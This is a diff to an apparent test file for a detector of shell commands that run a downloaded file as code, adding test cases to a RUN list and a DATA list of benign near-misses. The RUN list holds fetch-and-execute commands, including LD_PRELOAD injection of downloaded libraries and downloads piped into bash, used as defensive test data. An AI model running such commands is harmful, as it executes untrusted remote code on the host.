@@ -26,6 +26,7 @@ const RUN: string[] = [
   'curl -o x.sh http://x && ENV=./x.sh sh -i',
   'curl -o x.so http://x && LD_PRELOAD=./x.so ls',
   'wget http://x/lib.so && LD_PRELOAD=$PWD/lib.so id',
+  'curl -o run-a=1.sh http://x && bash run-a=1.sh',
 ];
 
 const DATA: string[] = [
@@ -37,6 +38,9 @@ const DATA: string[] = [
   'curl -o x- http://x && bash -e other.sh',
   "curl -o out.txt http://x && sh -c 'cat out.txt'",
   "curl -o out.txt http://x && python3 -c 'print(\"out.txt\")'",
+  // a program named without a path comes from PATH, not from the download; nor is a downloader its own download
+  'curl -o ls http://x/ls && ls',
+  '/usr/bin/curl -o curl http://x/curl',
 ];
 
 describe('a downloaded file run as code, however it is named', () => {
